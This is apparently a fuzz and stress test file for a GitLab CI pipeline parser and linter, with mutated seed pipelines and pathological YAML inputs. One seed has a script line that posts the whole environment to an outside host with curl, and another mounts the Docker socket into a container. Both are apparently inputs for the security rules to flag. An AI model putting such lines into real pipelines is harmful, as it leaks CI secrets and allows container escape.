import { expect, it } from 'vitest'
import { projectOf } from '../project.ts'
import { lintFile } from '../rules/lint.ts'
import type { Rule } from '../rules/rule.ts'
import { mutate, randomFrom } from '../testing/mutate.ts'
import { before } from './order.ts'
import { parsePipeline } from './parse.ts'

const files = import.meta.glob<{ default: Rule<string, 'gitlab-ci'> }>(
  ['../rules/gitlab-ci/{ci,secret,public}-*.ts', '!../rules/gitlab-ci/*.test.ts'],
  { eager: true },
)
const rules = Object.values(files).map((file) => file.default)

const SEEDS = [
  `stages: [build, test, ship]
variables:
  IMAGE: $CI_REGISTRY_IMAGE:$CI_COMMIT_SHA
  TAG: { value: stable, description: which one, expand: false }
default:
  image: docker:29
  services: [{ name: docker:29-dind, alias: docker }]
workflow:
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event" && ($TAG =~ /^v\\d+/ || !$CI_COMMIT_TAG)
    - when: always
.login: &login
  before_script:
    - echo "$CI_REGISTRY_PASSWORD" | docker login -u "$CI_REGISTRY_USER" --password-stdin
build:
  <<: *login
  stage: build
  script:
    - |
      docker build --build-arg TOKEN=$TOKEN -t "$IMAGE" .
      docker push "$IMAGE" || true
`,
  `.base: { tags: [quay], rules: [{ if: $CI_COMMIT_TAG, changes: [src/*], when: never }, { when: manual }] }
.script: [make, test]
test:
  extends: [.base]
  needs: [{ job: build, optional: true }]
  script:
    - !reference [.script]
    - !reference [.base, tags]
    - "curl -d \\"$(env)\\" https://example.net"
    - >-
      docker run -v /var/run/docker.sock:/x
      $IMAGE pytest
  artifacts: { when: always, paths: [x], reports: { junit: [a.xml] } }
  parallel: { matrix: [{ A: [b, c] }] }
build: { script: [docker login -p $P], only: [main, /^v/], except: { variables: [$X] }, environment: { name: a, on_stop: test } }
`,
]

it('never throws, whatever is written', () => {
  const random = randomFrom(20_261_121)
  for (let left = 800; left > 0; left -= 1) {
    const text = mutate(SEEDS[left % SEEDS.length]!, random, SEEDS)
    const project = projectOf('.gitlab-ci.yml', { files: {}, complete: false })
    const pipeline = parsePipeline(text, { project })
    const found = lintFile(rules, { pipeline, project }, pipeline.problems, ({ start }) => start.line)
    for (const { range, message } of [...found, ...pipeline.unreadable, ...pipeline.problems]) {
      expect(range.start.offset, text).toBeLessThanOrEqual(range.end.offset)
      expect(range.end.offset, text).toBeLessThanOrEqual(text.length)
      expect(message, text).not.toMatch(/undefined|\[object/)
    }
    for (const first of pipeline.jobs) for (const then of pipeline.jobs) before(pipeline, first, then)
  }
})

const many = (count: number, line: (at: number) => string): string =>
  Array.from({ length: count }, (_, at) => line(at)).join('')

/** Texts that are small and made to grow, or large. */
it.each([
  ['chains of extends', many(2000, (at) => `.t${at}: { extends: .t${at + 1} }\n`)],
  [
    'everybody extends everybody',
    many(
      60,
      (at) => `.t${at}: { extends: [${Array.from({ length: 60 }, (_, to) => `.t${to}`).join(', ')}] }\n`,
    ),
  ],
  ['chains of needs', many(3000, (at) => `j${at}: { script: [x], needs: [j${at + 1}] }\n`)],
  [
    'jobs that need all jobs',
    many(
      100,
      (at) =>
        `j${at}: { script: [x], needs: [${Array.from({ length: 100 }, (_, to) => `j${to}`).join(', ')}] }\n`,
    ),
  ],
  [
    'variables that double',
    `variables:\n${many(40, (at) => `  V${at}: $V${at + 1}$V${at + 1}\n`)}x: { script: [echo $V0], image: $V0 }\n`,
  ],
  [
    'references that double',
    `${many(30, (at) => `.r${at}: { script: [!reference [.r${at + 1}, script], !reference [.r${at + 1}, script]] }\n`)}.r30: { script: [x] }\nx: { script: [!reference [.r0, script]] }\n`,
  ],
  [
    'a reference to itself',
    '.a: { script: [!reference [.a, script]] }\nx: { script: [!reference [.a, script]] }\n',
  ],
  [
    'aliases that double',
    `.a0: &a0 [x, x]\n${many(20, (at) => `.a${at + 1}: &a${at + 1} [*a${at}, *a${at}]\n`)}x: { script: *a20 }\n`,
  ],
  [
    'many unknown needs',
    many(1500, (at) => `job-number-${at}: { script: [x], needs: [job-nomber-${at}x] }\n`),
  ],
  [
    'a template with a long script',
    `.long: &long [${'make all, '.repeat(3000)}end]\n${many(200, (at) => `j${at}: { script: *long }\n`)}`,
  ],
  ['many items that are no script', `x:\n  script:\n${many(5000, () => "    - 'if (('\n")}`],
  [
    'deep conditions',
    `x:\n  script: [x]\n  rules:\n    - if: '${'('.repeat(5000)}$A${')'.repeat(5000)}'\n    - if: '${'!'.repeat(5000)}$A'\n`,
  ],
  ['deep lists', `x:\n  script: ${'['.repeat(150)}a${']'.repeat(150)}\n`],
])('reads %s', (_, text) => {
  const pipeline = parsePipeline(text)
  const project = projectOf('.gitlab-ci.yml', { files: {}, complete: false })
  expect(lintFile(rules, { pipeline, project }, pipeline.problems, ({ start }) => start.line)).toBeInstanceOf(
    Array,
  )
  const [first, last] = [pipeline.jobs[0], pipeline.jobs.at(-1)]
  if (first !== undefined && last !== undefined)
    expect([true, false, null]).toContain(before(pipeline, first, last))
})
